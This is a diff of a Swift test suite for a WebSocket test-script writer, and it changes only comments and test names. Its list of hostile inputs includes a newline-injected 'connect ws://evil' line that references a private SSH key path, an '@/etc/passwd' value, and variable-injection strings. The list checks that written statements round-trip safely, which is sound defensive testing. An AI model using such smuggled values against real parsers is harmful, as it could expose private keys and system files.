@@ -4,9 +4,9 @@ import WebSocketProtocol
 
 @testable import TestScript
 
-/// Statements as lines: what is written is read as the same, or not written.
+/// Tests that written statements parse to the original ones.
 @Suite struct ScriptWriterTests {
-    /// Text that a server, or whoever made a recording, may have chosen.
+    /// Texts that a malicious server or the author of a recording might choose.
     static let hostile = [
         "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#", "\n> a", "\r\n> a", "\r> a", "a\n", "\n", "${HOME}",
         "$${HOME}", "$$${", "$", "${", "a$", "${\u{301}A}", "$\u{301}{A}", " a", "a ", "\ta", "a\t", "  # comment",
@@ -21,7 +21,7 @@ import WebSocketProtocol
         "~(a", "{\"a\":1}", "{", "[1]", "*", "<json {}", "string \"a\"", "1000", "300ms", "json", "-", "@/etc/passwd",
     ]
 
-    /// The statements that a line of a script is read as, behind a connection; nil when a line is wrong.
+    /// Parses a line after a `connect`; returns nil if it is invalid.
     private func read(_ line: String) -> [Statement]? {
         ScriptParser.tests(in: "connect ws://h/\n" + line + "\n> end\n", side: .client).map { tests in
             tests.flatMap(\.statements)
@@ -43,7 +43,7 @@ import WebSocketProtocol
         }
     }
 
-    @Test("A line that is written is read as the statement that it was written for", arguments: hostile)
+    @Test("A written line parses to the original statement", arguments: hostile)
     func roundTrip(text: String) throws {
         for step in steps(with: text) {
             for connection in ["", "bob", text] {
@@ -51,7 +51,7 @@ import WebSocketProtocol
                 let hidden = line.unicodeScalars.filter(VisibleText.mustBeVisible)
                 #expect(hidden.isEmpty, "\(line)")
                 let statements = try #require(read(line), "\(line)")
-                // A `connect` without a name begins another test.
+                // A `connect` without a name starts another test.
                 #expect(statements.count == 3, "\(line)")
                 #expect(statements.dropFirst().first?.step == step, "\(line)")
                 #expect(statements.dropFirst().first?.connection == connection, "\(line)")
@@ -68,7 +68,7 @@ import WebSocketProtocol
         }
     }
 
-    @Test("No variable comes out of a text without variables", arguments: hostile)
+    @Test("A text without variables is written without variables", arguments: hostile)
     func variables(text: String) throws {
         let template = Template(literal: text)
         #expect(template.variables == [])
@@ -77,7 +77,7 @@ import WebSocketProtocol
         #expect(try #require(read(line)).flatMap(\.step.templates).flatMap(\.variables) == [])
     }
 
-    @Test("Times, codes and statements without a value")
+    @Test("Times, close codes and statements without a value are written")
     func others() throws {
         let rows: [(Step, String)] = [
             (.timeout(.milliseconds(300)), "timeout 300ms"), (.wait(.seconds(2)), "wait 2000ms"),
@@ -98,7 +98,7 @@ import WebSocketProtocol
         }
     }
 
-    @Test("A comment stays a comment, on its line", arguments: hostile)
+    @Test("A comment stays a comment on one line", arguments: hostile)
     func comments(text: String) {
         let line = ScriptWriter.comment(text)
         #expect(read(line)?.count == 2, "\(line)")
